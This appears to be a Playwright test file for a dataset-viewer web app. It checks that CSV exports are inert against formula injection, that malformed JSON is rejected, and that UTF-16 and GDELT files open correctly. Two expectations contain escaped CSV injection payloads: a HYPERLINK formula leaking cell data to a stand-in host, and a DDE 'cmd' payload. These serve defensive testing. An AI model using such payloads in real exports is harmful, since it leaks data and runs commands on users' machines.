import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { test, expect } from './fixtures';
import { parseCsv } from '../../src/lib/csv-read';

// Issue 15 in the browser: real-shaped files open whole and undistorted, and CSV exports are inert in
// a spreadsheet. Each test names the numbered problem of the issue it covers.

const bundled = JSON.parse(readFileSync('public/data/stances.json', 'utf8')) as { title: string };
const fileInput = (page: Page) => page.getByLabel('Open dataset file (JSON or CSV)');
const mappingDialog = (page: Page, name: string) =>
  page.getByRole('dialog', { name: `Map the columns of ${name}` });

/** Text cells a spreadsheet would run as formulas: = + - @ tab or CR first, and not a plain number. */
function liveFormulaCells(csv: string): string[] {
  return parseCsv(csv.replace(/^\uFEFF/, ''))
    .rows.flat()
    .filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(c));
}

async function download(page: Page, item: string): Promise<string> {
  await page.getByRole('button', { name: 'Export' }).click();
  const downloaded = page.waitForEvent('download');
  await page.getByRole('menu', { name: 'Export' }).getByRole('menuitem', { name: item }).click();
  return readFileSync(await (await downloaded).path(), 'utf8');
}

test('2. formula cells: exported CSVs are inert, and reopening the export gives the same data', async ({
  page,
  consoleErrors,
}) => {
  const name = 'formula-cells.csv';
  await page.goto('./');
  await fileInput(page).setInputFiles(`tests/fixtures/${name}`);
  await mappingDialog(page, name).getByRole('button', { name: 'Open' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(name);

  const observations = await download(page, 'Download CSV');
  expect(liveFormulaCells(observations)).toEqual([]);
  const rows = parseCsv(observations.replace(/^\uFEFF/, '')).rows;
  const speaker = rows[0]!.indexOf('speaker');
  const score = rows[0]!.indexOf('score');
  expect(rows.map((r) => r[speaker])).toContain(
    '\'=HYPERLINK("http://evil.invalid/?leak="&A1;"Click for the source")',
  );
  // Scores stay number cells: −2 is written -2, not '-2.
  expect(rows.slice(1).map((r) => r[score])).toEqual(['-2', '-1', '0', '2', '2.5', '-3']);

  const series = await download(page, 'Download series CSV');
  expect(liveFormulaCells(series)).toEqual([]);
  expect(series).toContain("'=cmd|' /C calc'!A0");

  // The downloaded file opened again: the same observations, so exporting once more gives the same file.
  await fileInput(page).setInputFiles({ name, mimeType: 'text/csv', buffer: Buffer.from(observations) });
  await mappingDialog(page, name).getByRole('button', { name: 'Open' }).click();
  await expect(page.getByText(/^Opened formula-cells\.csv: 6 observations/)).toBeVisible();
  const again = await download(page, 'Download CSV');
  const ids = (csv: string) => csv.replace(/\brow-\d+\b/g, 'row-N').replace(/row \d+:/g, 'row N:');
  expect(ids(again)).toBe(ids(observations));
  expect(consoleErrors).toEqual([]);
});

test('4. a hostile JSON with three fatal problems lists all of them at once and opens nothing', async ({
  page,
  consoleErrors,
}) => {
  const name = 'hostile-three-fatal.json';
  await page.goto('./');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(bundled.title);
  await fileInput(page).setInputFiles(`tests/fixtures/${name}`);
  const dialog = page.getByRole('dialog', { name: `${name} could not be opened` });
  await expect(dialog.getByRole('alert')).toHaveText(
    /^The file cannot be opened: it has 3 problems outside its observations .*All are listed, so they can be fixed in one go\.$/,
  );
  await expect(dialog.getByRole('heading', { name: '4 problems' })).toBeVisible();
  await expect(dialog.getByRole('list', { name: 'Problems' }).getByRole('listitem')).toHaveText([
    'actor russia: id: duplicate id "russia" (an earlier actor has it)',
    'source src-001: url: must start with http:// or https://',
    'event evt-hostile: sourceId: unknown source "src-missing" (not in the sources list)',
    'observation obs-003: date: is not a real calendar date (expected YYYY-MM-DD, YYYY-MM or YYYY)',
  ]);
  await expect(dialog.getByRole('button', { name: /^Open the/ })).toHaveCount(0);
  await dialog.getByRole('button', { name: 'Close' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(bundled.title);
  expect(consoleErrors).toEqual([]);
});

test('3. Excel\'s "Unicode text" (UTF-16 with a byte-order mark) opens with its letters intact', async ({
  page,
  consoleErrors,
}) => {
  const name = 'excel-unicode-text.txt';
  await page.goto('./');
  await fileInput(page).setInputFiles(`tests/fixtures/${name}`);
  const dialog = mappingDialog(page, name);
  await expect(dialog).toContainText(
    '5 rows and 7 columns, separated by tabs. Text encoding: UTF-16 (little-endian), from its byte-order mark.',
  );
  await expect(dialog.getByRole('combobox', { name: 'Speaker' })).toHaveValue('5');
  await dialog.getByRole('button', { name: 'Open' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(name);
  await expect(page.getByText(/^Opened excel-unicode-text\.txt: 5 observations, 5 actors\./)).toBeVisible();
  const legend = page
    .getByRole('figure', { name: /^Stance over time/ })
    .getByRole('list', { name: 'Legend' });
  await expect(legend.getByRole('listitem')).toHaveCount(5);
  expect((await legend.getByRole('listitem').allTextContents()).sort()).toEqual(
    ['Trump', 'Zelensky', 'Україна', 'Росія', 'Türkiye'].sort(),
  );
  await expect(page.getByRole('table')).toContainText('Володимир Зеленський');
  expect(consoleErrors).toEqual([]);
});

test('1. an outlier and decimal commas: the scale is recognised, not stretched; the outliers are listed by row', async ({
  page,
  consoleErrors,
}) => {
  const name = 'score-outlier-decimal-comma.csv';
  await page.goto('./');
  await fileInput(page).setInputFiles(`tests/fixtures/${name}`);
  const dialog = mappingDialog(page, name);
  await expect(dialog.getByRole('combobox', { name: 'Numbers are written with' })).toHaveValue('comma');
  await expect(dialog).toContainText(
    'Sampled score values: 4 values with a decimal comma, 0 values with a decimal point.',
  );
  await expect(dialog.getByRole('combobox', { name: 'Scale' })).toHaveValue('stance');
  await expect(dialog.getByRole('status')).toHaveText(
    'Recognised from the column name "score" and its values (10 of 11 sampled values on −3…+3).',
  );
  await expect(dialog).toContainText(
    '1 sampled value is not read as a number by this rule ("1e3"). 1 sampled value is outside −3…+3.',
  );
  await dialog.getByRole('button', { name: 'Open' }).click();

  const problems = page.getByRole('dialog', { name: `Problems in ${name}` });
  await expect(problems.getByRole('list', { name: 'Problems' }).getByRole('listitem')).toHaveText([
    'row 9: score: "1e3" is in exponent form, which is read only when Numbers is "Decimal point, exponents allowed"',
    'row 10: score: "30" is outside the declared scale −3…+3 (the range is not stretched to fit it)',
  ]);
  await problems.getByRole('button', { name: 'Open the 10 valid rows' }).click();
  await expect(
    page.getByText(/^Opened score-outlier-decimal-comma\.csv: 10 observations, 4 actors; 2 left out\./),
  ).toBeVisible();
  // A hawkish +2 stays +2 and a 2,5 is +2.5: nothing was squashed to −3 by the outliers.
  const table = page.getByRole('table', { name: 'Observations' });
  const row = (day: string) => table.getByRole('row').filter({ hasText: day });
  await expect(row('1 Apr 2025')).toContainText('Graham');
  await expect(row('1 Apr 2025').getByRole('cell').nth(5)).toHaveText('+2');
  await expect(row('14 Jul 2025').getByRole('cell').nth(5)).toHaveText('+2.5');
  await expect(row('28 Feb 2025').getByRole('cell').nth(5)).toHaveText('−2.5');
  expect(consoleErrors).toEqual([]);
});

test('3. a header-less GDELT 1.0 export with uneven rows opens whole; hand-picked columns still need a declared scale', async ({
  page,
  consoleErrors,
}) => {
  const name = 'gdelt1-20201113.export.CSV';
  const lines = readFileSync(`tests/fixtures/${name}`, 'utf8')
    .trim()
    .split('\n')
    .map((l) => l.split('\t'));
  const usa = lines.filter((f) => f[7] === 'USA').map((f) => Number(f[30]));
  const expectedMean = (-0.3 * usa.reduce((s, v) => s + v, 0)) / usa.length;

  await page.goto('./');
  await fileInput(page).setInputFiles(`tests/fixtures/${name}`);
  const dialog = mappingDialog(page, name);
  await expect(dialog).toContainText('36 rows and 58 columns, separated by tabs.');
  await expect(dialog.getByRole('radio', { name: /is data/ })).toBeChecked();
  await expect(dialog).toContainText('The first row holds numbers or dates where a header would have names');
  await expect(dialog).toContainText('12 rows have fewer fields than the widest row');
  const date = dialog.getByRole('combobox', { name: 'Date (required)' });
  await expect(date.getByRole('option', { name: 'Column 2 (e.g. 20201113)' })).toHaveCount(1);
  await date.selectOption('1');
  await dialog.getByRole('combobox', { name: 'Actor (required)' }).selectOption('6');
  await dialog.getByRole('combobox', { name: 'Group actors by' }).selectOption('7');
  await dialog.getByRole('combobox', { name: 'Score (required)' }).selectOption('30');
  await dialog.getByRole('combobox', { name: 'Kind (statement or action)' }).selectOption('29');
  await dialog.getByRole('combobox', { name: 'Source' }).selectOption('57');
  // Picked by hand, "Column 31" names no scale: Open waits for one.
  await expect(dialog.getByRole('status')).toContainText('"Column 31" does not name a known scale');
  await expect(dialog.getByRole('button', { name: 'Open' })).toBeDisabled();
  await expect(dialog.getByRole('list', { name: 'Before opening' })).toContainText(
    'Choose the scale of the score, or "Other" to state its range: it is never guessed from the values.',
  );
  await dialog.getByRole('combobox', { name: 'Scale' }).selectOption('goldstein');
  await expect(dialog.getByRole('radio', { name: /more conciliatory or cooperative/ })).toBeChecked();
  await dialog.getByRole('button', { name: 'Open' }).click();

  await expect(page.getByRole('heading', { level: 1 })).toHaveText(name);
  await expect(
    page.getByText(
      /^Opened gdelt1-20201113\.export\.CSV: 36 observations, \d+ actors\. 12 rows had fewer fields/,
    ),
  ).toBeVisible();
  await expect(page.getByText(/3 rows had no Column 8 value; they form the group "\(none\)"/)).toBeVisible();
  const legend = page
    .getByRole('figure', { name: /^Stance over time/ })
    .getByRole('list', { name: 'Legend' });
  await expect(legend.getByRole('listitem').first()).toHaveText('UNITED STATES');
  await expect(legend.getByRole('listitem').filter({ hasText: '(no Column 8)' })).toHaveCount(1);
  const rounded = Math.round(expectedMean * 10) / 10;
  const shown = rounded === 0 ? '0' : `${rounded > 0 ? '+' : '−'}${Math.abs(rounded)}`;
  await expect(
    page.getByRole('region', { name: 'Summary' }).getByRole('listitem').filter({ hasText: 'UNITED STATES' }),
  ).toContainText(`UNITED STATES: mean score ${shown}`);
  expect(consoleErrors).toEqual([]);
});
